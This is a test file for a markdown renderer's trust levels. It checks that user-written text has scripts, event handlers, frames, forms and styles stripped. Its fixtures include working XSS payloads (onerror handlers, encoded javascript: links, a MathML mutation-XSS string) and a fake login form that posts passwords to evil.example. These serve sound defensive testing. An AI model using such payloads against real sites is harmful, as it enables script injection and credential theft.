import { render, screen, waitFor } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { Markdown } from '../src/index.ts';
import { renderMarkdown } from '../src/markdown/render.ts';
import type { MarkdownTrust } from '../src/markdown/render.ts';

// Issue 9 ("Trust"): text written by non-admins renders strictly (no styles, no form controls,
// frames, embeds, links to style sheets, meta refreshes, scripts or event handlers); text only
// admins write (problem statements) keeps today's rendering. Strict is the default.

async function rendered(markdown: string, trust?: MarkdownTrust): Promise<{ html: string; dom: HTMLElement }> {
  const html = await renderMarkdown(markdown, trust);
  const dom = document.createElement('div');
  dom.innerHTML = html;
  return { html, dom };
}

/** Everything an element or attribute name could be found by, lower-cased. */
function names(dom: HTMLElement): { tags: string[]; attrs: string[] } {
  const all = [...dom.querySelectorAll('*')];
  return { tags: all.map((element) => element.localName), attrs: all.flatMap((element) => element.getAttributeNames()) };
}

const HOSTILE = [
  '<script>window.pwned = 1</script>',
  '<img src="x.png" onerror="window.pwned = 1">',
  '[click](javascript:window.pwned=1)',
  '<a href="jav&#x61;script:window.pwned=1">encoded</a>',
  '<svg><script>window.pwned = 1</script></svg>',
  '<div onclick="window.pwned = 1" onmouseover="window.pwned = 1">hover</div>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  // Mutation XSS through MathML parsing; left unclosed, so it comes last.
  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 1">',
].join('\n\n');

const STRICT_ONLY = [
  '<style>body { display: none }</style>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">Site maintenance: log in below</p>',
  '<form action="https://evil.example/steal"><input name="password" type="password"><textarea>t</textarea><select><option>o</option></select><button>Log in</button></form>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<a href="https://example.org/" target="_blank" id="login" name="login" data-action="x" class="ant-modal-mask hljs">site</a>',
  '<img src="https://example.org/a.png" width="9000" height="9000" srcset="https://evil.example/b.png 2x">',
  '- [x] done',
  '- [ ] to do',
].join('\n\n');

describe('markdown trust levels', () => {
  for (const trust of ['user', 'admin'] as const) {
    it(`drops scripts, event handlers, javascript: links, frames and embeds (${trust})`, async () => {
      const { html, dom } = await rendered(HOSTILE, trust);
      const { tags, attrs } = names(dom);
      for (const tag of ['script', 'iframe', 'object', 'embed']) expect(tags).not.toContain(tag);
      expect(attrs.filter((name) => name.startsWith('on'))).toEqual([]);
      expect(html).not.toMatch(/javascript:/i);
      expect(html).not.toContain('pwned');
      expect(dom.textContent).toContain('hover');
    });
  }

  it('is strict by default: no styles, style sheets, forms, controls, link or meta elements, page classes or ids', async () => {
    for (const { dom, html } of [await rendered(STRICT_ONLY), await rendered(STRICT_ONLY, 'user')]) {
      const { tags, attrs } = names(dom);
      for (const tag of ['style', 'form', 'input', 'textarea', 'select', 'option', 'button', 'link', 'meta', 'iframe', 'object', 'embed']) {
        expect(tags, tag).not.toContain(tag);
      }
      for (const attr of ['style', 'id', 'name', 'target', 'srcset', 'width', 'height', 'data-action']) expect(attrs, attr).not.toContain(attr);
      expect(html).not.toContain('ant-modal-mask');
      expect(html).not.toContain('evil.example');
      // What the text says is kept, as text.
      expect(dom.textContent).toContain('Site maintenance: log in below');
      expect(dom.querySelector('a')?.getAttribute('href')).toBe('https://example.org/');
      expect(dom.querySelector('a')?.getAttribute('rel')).toBe('nofollow noopener noreferrer ugc');
      // An outside image is a link unless the site allows outside images (markdown-images.test.tsx).
      expect(dom.querySelector('a[href="https://example.org/a.png"]')).not.toBeNull();
      expect(dom.textContent).toContain('\u2611 done');
      expect(dom.textContent).toContain('\u2610 to do');
    }
  });

  it('keeps admin-written text as before: inline styles, link targets and task list boxes', async () => {
    const { dom } = await rendered(STRICT_ONLY, 'admin');
    expect(dom.querySelector('p[style]')?.getAttribute('style')).toContain('position:fixed');
    expect(dom.querySelector('a')?.getAttribute('target')).toBe('_blank');
    expect(dom.querySelectorAll('input[type="checkbox"]')).toHaveLength(2);
  });

  it('still renders what markdown itself makes in strict mode: headings, tables, highlighted code, images, links', async () => {
    const { dom } = await rendered(
      ['# Title', '', '| a | b |', '|:-:|--|', '| 1 | 2 |', '', '```cpp', 'int main() { return 0; }', '```', '', '*em* **strong** `code` ~~del~~'].join('\n'),
    );
    expect(dom.querySelector('h1')?.textContent).toBe('Title');
    expect(dom.querySelector('th')?.getAttribute('align')).toBe('center');
    expect(dom.querySelector('pre.oj-code code.hljs.language-cpp')).not.toBeNull();
    expect(dom.querySelector('.hljs-keyword, .hljs-type')).not.toBeNull();
    expect(dom.querySelector('em')?.textContent).toBe('em');
    expect(dom.querySelector('del')?.textContent).toBe('del');
  });

  it('renders formulas as MathML without styles in strict mode, and as KaTeX HTML for admins', async () => {
    const source = 'Inline $x^2 + \\frac{a}{b}$ and\n\n$$\\sum_{i=1}^{n} i$$\n\n$\\htmlStyle{color:red}{x}$ $\\href{javascript:alert(1)}{y}$';
    const strictResult = await rendered(source);
    expect(strictResult.dom.querySelectorAll('math').length).toBeGreaterThanOrEqual(3);
    expect(strictResult.dom.querySelector('msup')).not.toBeNull();
    expect(strictResult.dom.querySelector('mfrac')).not.toBeNull();
    expect(names(strictResult.dom).attrs).not.toContain('style');
    // The TeX source stays readable in the formula's annotation, but no link is made of it.
    expect(strictResult.dom.querySelector('[href]')).toBeNull();
    const adminResult = await rendered(source, 'admin');
    expect(adminResult.dom.querySelector('.katex-html')).not.toBeNull();
    expect(adminResult.dom.querySelector('[style]')).not.toBeNull();
    expect([...adminResult.dom.querySelectorAll('[href]')].map((element) => element.getAttribute('href'))).toEqual([]);
  });

  it('the Markdown component is strict unless told an admin wrote the text', async () => {
    const text = '<p style="color:red">styled</p>';
    render(
      <>
        <Markdown text={text} data-testid="default" />
        <Markdown text={text} trust="admin" data-testid="admin" />
      </>,
    );
    await waitFor(() => {
      expect(screen.getByTestId('admin').querySelector('p')?.getAttribute('style')).toBe('color:red');
    });
    await waitFor(() => {
      expect(screen.getByTestId('default').querySelector('p')?.textContent).toBe('styled');
    });
    expect(screen.getByTestId('default').querySelector('[style]')).toBeNull();
  });
});
